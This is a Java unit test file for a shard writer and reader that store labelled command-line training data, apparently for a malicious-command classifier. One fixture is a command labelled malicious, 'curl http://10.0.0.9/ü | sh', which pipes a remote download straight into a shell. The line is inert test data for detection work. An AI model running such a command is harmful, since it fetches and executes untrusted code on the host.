package dev.longtail.training.shards;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.within;

import dev.longtail.training.classify.RowGroups;
import dev.longtail.training.data.Label;
import dev.longtail.training.data.LabelledCommand;
import dev.longtail.training.data.LineOrigin;
import dev.longtail.udfs.io.InputException;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Test;

class ShardFileTest {
  private static final ShardLine ATTACK =
      new ShardLine(
          new LabelledCommand(
              "curl http://10.0.0.9/ü | sh", Label.MALICIOUS, new LineOrigin("linux", "cases")),
          false,
          new float[] {0.6f, -0.8f});
  private static final ShardLine MINED =
      new ShardLine(
          new LabelledCommand("git status", Label.BENIGN, new LineOrigin("windows", "")),
          true,
          new float[] {1, 0});

  @Test
  void whatIsReadWasWritten() throws IOException {
    List<ShardLine> read = read(written(ATTACK, MINED));

    assertThat(read).extracting(ShardLine::row).containsExactly(ATTACK.row(), MINED.row());
    assertThat(read).extracting(ShardLine::added).containsExactly(false, true);
    assertThat(read.get(0).vector()).containsExactly(0.6f, -0.8f);
    assertThat(read.get(1).vector()).containsExactly(1, 0);
  }

  @Test
  void aSummaryCountsAndItsDigestHoldsTheOrder() throws IOException {
    ShardSummary summary = summary(ATTACK, MINED);

    assertThat(summary.lines()).isEqualTo(2);
    assertThat(summary.malicious()).isEqualTo(1);
    assertThat(summary.added()).isEqualTo(1);
    assertThat(summary.groups()).hasSize(2);
    assertThat(summary.digest()).isEqualTo(summary(ATTACK, MINED).digest());
    assertThat(summary.digest()).isNotEqualTo(summary(MINED, ATTACK).digest());
  }

  @Test
  void weightsAreThoseOfAllShards() throws IOException {
    RowGroups all = new RowGroups();
    all.add(ATTACK.row());
    all.add(ATTACK.row());
    all.add(MINED.row());

    ShardSummary together =
        ShardSummary.all(List.of(summary(ATTACK), summary(MINED), summary(ATTACK)));

    RowGroups.Weigher weigher = new RowGroups(together.groups()).weigher();
    assertThat(weigher.weight(ATTACK.row())).isEqualTo(all.weigher().weight(ATTACK.row()));
    // The attacks weigh 1 / sqrt(2) of the other each; their mean is 1.
    assertThat(weigher.weight(ATTACK.row()) / weigher.weight(MINED.row()))
        .isCloseTo((float) Math.sqrt(0.5), within(1e-6f));
    assertThat(2 * weigher.weight(ATTACK.row()) + weigher.weight(MINED.row()))
        .isBetween(2.9999f, 3.0001f);
  }

  @Test
  void aFileThatBreaksOffIsRefused() throws IOException {
    byte[] whole = written(ATTACK, MINED);
    for (int length : new int[] {4, 20, whole.length - 20, whole.length - 9, whole.length - 1}) {
      assertThatThrownBy(() -> read(Arrays.copyOf(whole, length)))
          .as("%d bytes", length)
          .isInstanceOf(InputException.class)
          .hasMessageStartingWith("a shard: ");
    }
  }

  @Test
  void anotherFileIsRefused() {
    assertThatThrownBy(() -> read("{\"cmd\": \"git status\"}".getBytes(StandardCharsets.UTF_8)))
        .isInstanceOf(InputException.class)
        .hasMessage("a shard: no shard of a training set");
  }

  @Test
  void vectorsHaveOneLength() {
    assertThatThrownBy(() -> written(new ShardLine(MINED.row(), true, new float[3])))
        .isInstanceOf(IllegalArgumentException.class)
        .hasMessageContaining("3 components");
  }

  private static byte[] written(ShardLine... lines) throws IOException {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (ShardWriter writer = new ShardWriter(bytes, 2)) {
      for (ShardLine line : lines) {
        writer.write(line);
      }
    }
    return bytes.toByteArray();
  }

  private static ShardSummary summary(ShardLine... lines) throws IOException {
    try (ShardWriter writer = new ShardWriter(new ByteArrayOutputStream(), 2)) {
      for (ShardLine line : lines) {
        writer.write(line);
      }
      return writer.summary(0);
    }
  }

  private static List<ShardLine> read(byte[] file) throws IOException {
    try (ShardReader reader = new ShardReader(new ByteArrayInputStream(file), "a shard")) {
      List<ShardLine> lines = new ArrayList<>();
      for (Optional<ShardLine> line = reader.next(); line.isPresent(); line = reader.next()) {
        lines.add(line.get());
      }
      return lines;
    }
  }
}
